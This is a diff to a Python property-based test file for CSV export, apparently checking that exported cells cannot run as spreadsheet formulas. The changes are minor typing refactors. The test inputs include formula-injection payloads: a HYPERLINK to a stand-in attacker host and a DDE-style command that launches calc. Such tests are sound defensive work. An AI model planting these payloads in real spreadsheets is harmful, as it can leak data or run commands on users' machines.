@@ -8,6 +8,7 @@ import datetime as dt
 import io
 import re
 import unicodedata
+from collections.abc import Iterable
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -27,7 +28,7 @@ hostile = st.builds(
     st.sampled_from(['HYPERLINK("http://evil.example/?x","y")', "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "2+3"]),
 )
 text = st.one_of(
-    hostile, st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30)
+    hostile, st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
 )
 NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
 
@@ -44,8 +45,8 @@ def runs_as_formula(cell: str) -> bool:
     return False
 
 
-def cells(chunks: object) -> list[str]:
-    body = "".join(chunks)  # type: ignore[call-overload]
+def cells(chunks: Iterable[str]) -> list[str]:
+    body = "".join(chunks)
     return [c for row in csv.reader(io.StringIO(body, newline="")) for c in row]
 
 
